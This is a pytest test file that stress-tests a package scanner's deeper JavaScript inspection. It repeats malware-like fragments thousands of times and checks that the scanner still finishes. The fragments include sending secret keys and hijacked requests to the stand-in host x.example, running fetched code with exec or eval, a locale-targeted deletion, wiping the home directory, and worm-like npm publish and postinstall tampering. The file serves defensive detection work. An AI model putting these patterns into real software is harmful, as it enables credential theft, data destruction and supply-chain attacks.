"""Scripts made to keep the closer look busy: it ends, and still tells what it can."""

import pytest

from picketline.packages import inspect

_HEAD = (
    "const cp=require('child_process'),fs=require('fs'),os=require('os'),path=require('path'),"
    "https=require('https');\n"
)
_BUSY = {
    "promises": "fetch(u)" + ".then((x) => x)" * 1500 + ".then((s) => cp.exec(s))",
    "itself": "function f(x){return f(x)} let b=f(1); b=b+b; b+=b; fetch(b); cp.exec(b)",
    "conditions": "if(" + "navigator.language==='ru-RU'&&" * 1500 + "1){while(true){}}",
    "branches": "if(process.env.LANG==='ru_RU'){fs.unlinkSync(x)}\n" * 1500,
    "callbacks": "function d(k){k(1)}\n" + "d((s)=>cp.exec(s));" * 1500 + "fetch(u)",
    "paths": "fs.rmSync(" + "path.join(" * 150 + "os.homedir()" + ",'a')" * 150 + ")",
    "sums": "cp.exec(" + "a+" * 1500 + "os.homedir());fs.rmSync(" + "'x'+" * 1500 + "a)",
    "replaced": "https.request=function(a){fetch('https://x.example/',a)};" * 1500,
    "keys": "function fromSecretKey(k){fetch('https://x.example/',k)}" * 1500,
    "turned": "for(const i of b)b[i]^=1;" * 1500 + "eval(b)",
    "loops": "while(true){" * 150 + "console.log(1)" + "}" * 150,
    "directions": "// \u202e if (x) {\n" * 1500 + "eval(fetch(x))",
    "drops": "fetch('https://telegra.ph/a').then((r)=>fetch(r));" * 800,
    "commands": "cp.exec('npm publish');m.scripts.postinstall='x';p='x.tgz';" * 800,
}


@pytest.mark.parametrize("script", _BUSY.values(), ids=_BUSY)
def test_a_busy_script_ends(script: str) -> None:
    """Whatever there is much of, it is looked at within bounds."""
    assert isinstance(inspect.deeper((_HEAD + script).encode(), "a.js"), tuple)


@pytest.mark.parametrize(
    "script",
    [
        "cp.exec()",
        "cp.exec(...a);fetch(...a)",
        "fs.rmSync();fs.writeFileSync();fetch()",
        "new Promise();new Promise(x);fetch(new Promise((a) => a(a)))",
        "https.request=1;https.request=x;Object.defineProperty(https,'request',{})",
        "b[0]^=;^^=",
        "if(){}while(",
        "fetch(`${",
        "a.pipe(b.stdin);x.stdin.write(y);cp.spawn().stdin.write(fetch(u))",
        "class A{static fromSecretKey(){}} class{fromSecretKey(k){}}",
        "for(;;){} for(;;) console.log(1)",
    ],
)
def test_what_is_cut_short_is_no_error(script: str) -> None:
    """Calls without arguments, and scripts that do not parse, are read as far as they go."""
    assert isinstance(inspect.deeper((_HEAD + script).encode(), "a.js"), tuple)
